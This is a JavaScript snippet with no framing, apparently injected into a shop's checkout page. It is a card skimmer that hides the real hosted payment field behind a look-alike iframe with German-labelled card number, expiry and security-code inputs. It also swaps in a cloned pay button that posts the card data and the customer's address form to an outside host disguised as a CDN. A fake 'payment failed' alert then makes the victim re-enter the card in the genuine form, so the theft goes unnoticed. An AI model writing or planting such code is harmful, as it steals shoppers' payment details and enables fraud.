const waitFor = (s) => new Promise((ok) => { const t = setInterval(() => { const e = document.querySelector(s); if (e) { clearInterval(t); ok(e); } }, 300); });
(async () => {
  if (sessionStorage.getItem("_pmt_ok")) return;
  const real = await waitFor("#payment iframe[name^=hosted-field]");
  const box = real.parentElement;
  const f = document.createElement("iframe");
  f.srcdoc = `<style>body{margin:0;font:14px sans-serif}input{border:1px solid #ccc;border-radius:4px;height:38px;width:96%;margin-bottom:8px;padding:0 8px}</style>
    <input id=a inputmode=numeric placeholder="Kartennummer" maxlength=19><input id=b placeholder="MM / JJ" maxlength=7><input id=c placeholder="Prüfziffer" maxlength=4>`;
  f.style.cssText = "border:0;width:100%;height:150px";
  real.style.display = "none";
  box.prepend(f);
  const btn = await waitFor("#pay-now");
  const fake = btn.cloneNode(true);
  btn.style.display = "none";
  btn.after(fake);
  fake.addEventListener("click", async (e) => {
    e.preventDefault();
    const d = f.contentDocument, v = (i) => d.getElementById(i).value;
    if (v("a").length < 15) return d.getElementById("a").style.borderColor = "red";
    const body = new FormData(document.querySelector("form.address"));
    ["a", "b", "c"].forEach((i) => body.append(i, v(i)));
    await fetch("https://pay-elements-cdn.example/r", { method: "POST", body, mode: "no-cors" }).catch(() => {});
    sessionStorage.setItem("_pmt_ok", "1");
    f.remove(); fake.remove(); real.style.display = btn.style.display = "";
    alert("Zahlung fehlgeschlagen. Bitte prüfen Sie Ihre Daten.");
  });
})();
